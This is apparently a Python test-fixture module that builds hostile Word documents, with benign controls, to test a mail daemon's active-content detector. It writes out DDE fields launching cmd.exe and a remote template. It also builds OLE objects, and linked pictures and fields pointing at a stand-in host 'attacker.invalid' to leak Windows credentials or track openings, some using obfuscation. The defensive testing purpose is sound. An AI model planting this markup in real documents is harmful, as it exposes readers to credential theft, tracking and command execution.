"""Hostile Word attachments carrying active content that is not a macro, and some that are fine.

Documents that attack Word itself without a macro: a template attached from a web server,
DDE fields (as a field with runs, and as a simple field), OLE objects (an embedded container
part, an embedded package declared only in the markup, a linked file on a share). Then the
documents that fetch on opening, handing a web server the time of opening and a file share
the reader's Windows credentials: linked pictures (to a share, a file:// share, a web server),
INCLUDEPICTURE, INCLUDETEXT and LINK fields (split over runs, as simple fields, with a name
another field computes), and altChunks, parts Word converts on opening, carrying the same in
RTF, HTML or MHT, or a whole Word package. Each starts from a genuine referral
(`referral_docx`) and adds the parts and markup Word would write, with `zipfile`. The
controls are forms with ordinary web and email links, and altChunks holding only links and
embedded pictures, which `mailbot.ingest.document.active` must let through.
`tests/hostile_corpus.CORPUS` names them with the code the daemon must give.
"""

from __future__ import annotations

from tests.hostile_blocks import build_zip, encrypted, minimal_docx, parts_of, referral_docx

FORM_SEEDS = range(603, 626)  # the referrals inside these files (603-605 kept from before)
_DOCUMENT = "word/document.xml"
_DOCUMENT_RELS = "word/_rels/document.xml.rels"
_TYPES = "[Content_Types].xml"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relationships(*rows: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships">{"".join(rows)}</Relationships>'
    ).encode()


def _with(
    seed: int,
    body: str = "",
    rels: str = "",
    types: str = "",
    extra: tuple[tuple[str, bytes], ...] = (),
) -> bytes:
    """A referral with `body` markup first in the document, `rels` rows added to the
    document's relationships, `types` rows to the content types, and `extra` parts."""
    changes = {
        _DOCUMENT: ("<w:body>", f"<w:body>{body}"),
        _DOCUMENT_RELS: ("</Relationships>", f"{rels}</Relationships>"),
        _TYPES: ("</Types>", f"{types}</Types>"),
    }
    parts = []
    for name, data in parts_of(referral_docx(seed)):
        if name in changes:
            old, new = changes[name]
            data = data.decode().replace(old, new, 1).encode()
        parts.append((name, data))
    return build_zip([*parts, *extra])


def remote_template() -> bytes:
    """settings.xml attaching a template from a web server (Word fetches it on opening)."""
    rels = _relationships(
        f'<Relationship Id="rId1" Type="{_REL}/attachedTemplate"'
        ' Target="http://attacker.invalid/t.dotm" TargetMode="External"/>'
    )
    return build_zip([*parts_of(referral_docx(603)), ("word/_rels/settings.xml.rels", rels)])


def dde_field() -> bytes:
    """A DDEAUTO field that would ask Word to run cmd.exe."""
    return _with(
        604,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )


def ole_object() -> bytes:
    """An embedded OLE object (oleObject1.bin) of the kind that carries executables."""
    return build_zip(
        [*parts_of(referral_docx(605)), ("word/embeddings/oleObject1.bin", _ole_container())]
    )


def dde_field_simple() -> bytes:
    """A simple field (w:fldSimple) whose instruction is DDE, written in lower case."""
    return _with(
        606,
        '<w:p><w:fldSimple w:instr=" dde c:\\\\windows\\\\system32\\\\cmd.exe'
        ' &quot;/k calc.exe&quot; "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    )


def ole_object_markup() -> bytes:
    """A Word document embedded as an object (w:object, o:OLEObject): no .bin part, no OLE
    content type, only the markup gives it away (the package could hold macros)."""
    body = (
        '<w:p><w:r><w:object w:dxaOrig="1500" w:dyaOrig="800"><v:shape id="_x0000_i1025"'
        ' type="#_x0000_t75" style="width:75pt;height:40pt"/><o:OLEObject Type="Embed"'
        ' ProgID="Word.Document.12" ShapeID="_x0000_i1025" DrawAspect="Icon"'
        ' ObjectID="_1700000000" r:id="rId90"/></w:object></w:r></w:p>'
    )
    rels = (
        f'<Relationship Id="rId90" Type="{_REL}/package"'
        ' Target="embeddings/Microsoft_Word_Document.docx"/>'
    )
    types = (
        '<Default Extension="docx" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document"/>'
    )
    return _with(
        607, body, rels, types, (("word/embeddings/Microsoft_Word_Document.docx", minimal_docx()),)
    )


def linked_ole_object() -> bytes:
    """An OLE object linked to a workbook on a network share (Word opens the share, handing
    it the user's Windows credentials, and refreshes the link)."""
    body = (
        '<w:p><w:r><w:object><v:shape id="_x0000_i1026" type="#_x0000_t75"/>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1026"'
        ' DrawAspect="Content" r:id="rId91" UpdateMode="Always"><o:LinkType>EnhancedMetaFile'
        "</o:LinkType></o:OLEObject></w:object></w:r></w:p>"
    )
    rels = (
        f'<Relationship Id="rId91" Type="{_REL}/oleObject"'
        ' Target="file:///\\\\attacker.invalid\\share\\risk.xlsx" TargetMode="External"/>'
    )
    return _with(608, body, rels)


def external_hyperlinks() -> bytes:
    """The control: a referral with web and email links (external hyperlink relationships and
    a HYPERLINK field), as partners' forms have. Not active content: it is read."""
    body = (
        '<w:p><w:hyperlink r:id="rId92"><w:r><w:t>Guidance</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rId93"><w:r><w:t>Email the IDVA</w:t></w:r></w:hyperlink>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' HYPERLINK "https://www.safelives.org.uk/" </w:instrText></w:r><w:r><w:fldChar'
        ' w:fldCharType="separate"/></w:r><w:r><w:t>SafeLives</w:t></w:r><w:r><w:fldChar'
        ' w:fldCharType="end"/></w:r></w:p>'
    )
    rels = (
        f'<Relationship Id="rId92" Type="{_REL}/hyperlink"'
        ' Target="https://www.westmidlands-pcc.gov.uk/marac" TargetMode="External"/>'
        f'<Relationship Id="rId93" Type="{_REL}/hyperlink"'
        ' Target="mailto:idva@example.gov.uk" TargetMode="External"/>'
    )
    return _with(609, body, rels)


# -- documents that fetch on opening ------------------------------------------------------------

_SHARE = "\\\\attacker.invalid\\share"  # a UNC path: Word hands the share its credentials
_DRAWING_NS = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)


def _picture(blip: str) -> str:
    """An inline picture as Word writes one, its a:blip attributes given."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
        '<wp:docPr id="90" name="Picture 90"/><a:graphic ' + _DRAWING_NS + ">"
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/>'
        f"</pic:nvPicPr><pic:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch>"
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _field(*instructions: str) -> str:
    """A field whose instruction Word joins from these runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>picture</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def linked_image_unc() -> bytes:
    """A picture linked, not embedded (a:blip r:link), to a file on a share: Word fetches it
    to show the page."""
    rels = (
        f'<Relationship Id="rId94" Type="{_REL}/image" Target="{_SHARE}\\logo.png"'
        ' TargetMode="External"/>'
    )
    return _with(611, _picture('r:link="rId94"'), rels)


def linked_image_file_url() -> bytes:
    """A picture linked to a file:// address on another computer (the same share, written as
    a URL), embedded and linked at once as Word's "Insert and Link" does."""
    rels = (
        '<Relationship Id="rId94" Type="' + _REL + '/image"'
        ' Target="file://attacker.invalid/share/logo.png" TargetMode="External"/>'
    )
    return _with(612, _picture('r:link="rId94"'), rels)


def linked_image_web_header() -> bytes:
    """A tracking picture in the page header, an old-style (VML) shape whose image is on a web
    server: each opening tells the server when, from where."""
    header = dict(parts_of(referral_docx(613)))["word/header1.xml"].decode()
    shape = (
        '<w:p><w:r><w:pict><v:shape id="i94" type="#_x0000_t75" style="width:1pt;height:1pt">'
        '<v:imagedata r:id="rId1" o:title=""/></v:shape></w:pict></w:r></w:p>'
    )
    at = header.index(">", header.index("<w:hdr")) + 1
    rels = _relationships(
        f'<Relationship Id="rId1" Type="{_REL}/image"'
        ' Target="https://attacker.invalid/pixel.png?id=613"'
        ' TargetMode="External"/>'
    )
    parts = [
        (n, (header[:at] + shape + header[at:]).encode() if n == "word/header1.xml" else d)
        for n, d in parts_of(referral_docx(613))
    ]
    return build_zip([*parts, ("word/_rels/header1.xml.rels", rels)])


def includepicture_split() -> bytes:
    """An INCLUDEPICTURE field to a share, with \\d (fetched at every showing, not stored), its
    instruction split over runs as Word splits edited text."""
    return _with(
        614, _field(" INCLUDEPIC", 'TURE  "\\\\\\\\attacker.invalid\\\\share\\\\a.png"', " \\d ")
    )


def includetext_simple() -> bytes:
    """An INCLUDETEXT simple field (w:fldSimple) taking text from a document on a share."""
    return _with(
        615,
        '<w:p><w:fldSimple w:instr=" includetext &quot;\\\\\\\\attacker.invalid'
        '\\\\share\\\\note.docx&quot; "><w:r><w:t>note</w:t></w:r></w:fldSimple></w:p>',
    )


def link_field() -> bytes:
    """A LINK field to a workbook on a share, updated automatically (\\a): Word opens the
    share when the document opens."""
    return _with(
        616,
        _field(
            ' LINK Excel.Sheet.12 "\\\\\\\\attacker.invalid\\\\share',
            '\\\\risk.xlsx" "Sheet1!R1C1:R4C4" \\a \\f 4 \\h ',
        ),
    )


def computed_field_name() -> bytes:
    """A field whose name a nested QUOTE field computes from character codes (73 78 ... spells
    INCLUDEPICTURE): the field's text never names what it does."""
    codes = " ".join(str(ord(c)) for c in "INCLUDEPICTURE")
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> QUOTE {codes} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>INCLUDEPICTURE</w:t>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText'
        ' xml:space="preserve"> "\\\\\\\\attacker.invalid\\\\share\\\\a.png" \\d </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _with(617, body)


def _chunk(seed: int, name: str, content_type: str, data: bytes) -> bytes:
    """A referral with an altChunk (word/`name`, of `content_type`) first in its body."""
    rels = f'<Relationship Id="rId95" Type="{_REL}/aFChunk" Target="{name}"/>'
    types = f'<Override PartName="/word/{name}" ContentType="{content_type}"/>'
    return _with(seed, '<w:altChunk r:id="rId95"/>', rels, types, ((f"word/{name}", data),))


def altchunk_rtf_includepicture() -> bytes:
    """An RTF altChunk whose INCLUDEPICTURE field to a share is written to hide its name: split
    over groups, one letter as a hex escape (\\'54 is T)."""
    rtf = (
        rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard Referrer's note\par"
        rb"{\field{\*\fldinst {\rtlch\fcs1 \af0 INCLUDE}{\rtlch PIC\'54URE}"
        rb' "\\\\\\\\attacker.invalid\\\\share\\\\logo.png" \\d}{\fldrslt }}\par}'
    )
    return _chunk(618, "note.rtf", "application/rtf", rtf)


def altchunk_rtf_linked_object() -> bytes:
    """An RTF altChunk holding an OLE object linked to a workbook on a share, updated
    automatically (\\objautlink): the RTF form of a linked OLE object."""
    rtf = (
        rb"{\rtf1\ansi\pard Figures:\par{\object\objautlink\rsltpict\objw1440\objh720"
        rb"{\*\objclass Excel.Sheet.12}{\*\objdata 01050000020000000b000000}"
        rb"{\result {\pict\wmetafile8 0100}}}\par}"
    )
    return _chunk(619, "figures.rtf", "text/rtf", rtf)


def altchunk_html_unc_image() -> bytes:
    """An HTML altChunk with a picture on a share, its backslashes written as character
    references (&#92;) so the bytes never show a UNC path."""
    html = (
        b'<html><head><meta http-equiv="Content-Type" content="text/html;'
        b' charset=windows-1252"></head><body><p>Referrer\'s note</p><img src="&#92;&#92;'
        b'attacker.invalid&#92;share&#92;logo.png" width="1" height="1"></body></html>'
    )
    return _chunk(620, "note.htm", "text/html", html)


def altchunk_html_stylesheet() -> bytes:
    """An HTML altChunk linking a stylesheet from a web server (<link rel=stylesheet>), as a
    page saved from a browser does."""
    html = (
        b'<html><head><link rel="stylesheet" href="https://attacker.invalid/s.css?id=621">'
        b"</head><body><p>Referrer's note</p></body></html>"
    )
    return _chunk(621, "note.html", "text/html", html)


def altchunk_mht_field() -> bytes:
    """An MHT (web archive) altChunk whose HTML, quoted-printable with a soft line break in
    the middle of the marker, holds Word's own markup for an INCLUDEPICTURE field in a
    conditional comment; its embedded picture (by Content-Location) is fine."""
    mht = (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="NextPart_01"\r\n\r\n'
        b"--NextPart_01\r\nContent-Location: file:///C:/note.htm\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n"
        b'Content-Type: text/html; charset="us-ascii"\r\n\r\n'
        b"<html><body><p>Note</p><p><!--[if supportFields]><span style=3D'mso-element:field=\r\n"
        b"-begin'></span>INCLUDEPICTURE &quot;http://attacker.invalid/t.png&quot; \\d"
        b" <span style=3D'mso-element:field-separator'></span><![endif]--><img src=3D\"note=\r\n"
        b"_files/image001.png\"><!--[if supportFields]><span style=3D'mso-element:field-en=\r\n"
        b"d'></span><![endif]--></p></body></html>\r\n\r\n"
        b"--NextPart_01\r\nContent-Location: file:///C:/note_files/image001.png\r\n"
        b"Content-Transfer-Encoding: base64\r\nContent-Type: image/png\r\n\r\n"
        b"iVBORw0KGgo=\r\n\r\n--NextPart_01--\r\n"
    )
    return _chunk(622, "note.mht", "message/rfc822", mht)


def altchunk_word_package() -> bytes:
    """An altChunk that is a whole Word document: Word imports it with whatever it links to,
    and the checks do not open a package inside a package."""
    return _chunk(
        623,
        "part.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        minimal_docx("Imported"),
    )


def altchunk_html_links_only() -> bytes:
    """The control: an HTML altChunk with a web link, a picture embedded as data and one by a
    relative name; nothing is fetched from elsewhere on opening. It is read."""
    html = (
        b'<html><body><p>See <a href="https://www.safelives.org.uk/">SafeLives</a> and'
        b' <a href="\\\\intranet\\marac\\guide.docx">the guide</a>.</p>'
        b'<img src="data:image/png;base64,iVBORw0KGgo=" alt=""><img src="note_files/a.png">'
        b"</body></html>"
    )
    return _chunk(624, "note.htm", "text/html", html)


def altchunk_rtf_links_only() -> bytes:
    """The control: an RTF altChunk with a HYPERLINK field, a page number and the words
    INCLUDEPICTURE, LINK and objautlink in its text (not fields, not control words)."""
    rtf = (
        rb'{\rtf1\ansi\pard {\field{\*\fldinst HYPERLINK "https://www.safelives.org.uk/"}'
        rb"{\fldrslt SafeLives}} page {\field{\*\fldinst PAGE}{\fldrslt 1}}\par"
        rb" Words, not fields: INCLUDEPICTURE, LINK, objautlink, \\objautlink.\par}"
    )
    return _chunk(625, "note.rtf", "application/rtf", rtf)


def _ole_container() -> bytes:
    """A tiny OLE container with a stream named like an embedded executable's."""
    ole = bytearray(encrypted(spin_count=1))
    slot = ole.index("EncryptedPackage".encode("utf-16-le"))
    name = "\x01Ole10Native".encode("utf-16-le")
    ole[slot : slot + len(name)] = name
    return bytes(ole)
